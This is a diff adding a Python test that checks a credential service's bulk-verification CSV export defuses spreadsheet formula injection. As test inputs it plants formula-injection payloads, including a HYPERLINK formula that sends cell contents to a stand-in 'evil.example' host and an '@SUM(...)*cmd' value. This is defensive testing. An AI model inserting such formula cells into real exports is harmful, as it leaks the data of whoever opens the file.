@@ -119,6 +119,22 @@ def test_bulk_verification_of_links_and_bundles_downloads_csv(env):
     assert c2.status == "verified"
 
 
+def test_bulk_verification_csv_defuses_cells_that_would_start_a_spreadsheet_formula(env):
+    evil = env.svc.accounts.create("evil@example.org", PASSWORD, "@SUM(1+1)*cmd", "student")
+    c = env.svc.credentials.issue(env.users["olymp"], IssueRequest("evil@example.org", "olympiad", '=HYPERLINK("http://evil.example/?"&A1,"ok")',
+                                                                   "2026-03-01"))
+    assert c.title.startswith("=")
+    share = env.svc.portfolio.create_share(evil, label="", items=None, days=5)
+    links = f"http://testserver/s/{share.token}\n+1-2\n-5\n\t=1+1\n"
+    r = form(env.browser(), "/verify/bulk", {"links": links})
+    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    (ok,) = [row for row in rows if row[0].endswith(share.token)]
+    assert ok[1] == "'@SUM(1+1)*cmd" and ok[3] == "'" + c.title and ok[5] == "verified"  # the text survives, as text
+    assert {row[0] for row in rows[1:]} >= {"'+1-2", "'-5", "'=1+1"}  # link lines are stripped, then defused
+
+
 def test_erasing_a_person_shreds_their_data_and_everything_else_still_verifies(env):
     mine, theirs = _issue(env, "maria"), _issue(env, "petr", "Призёр олимпиады")
     maria = env.browser("maria")
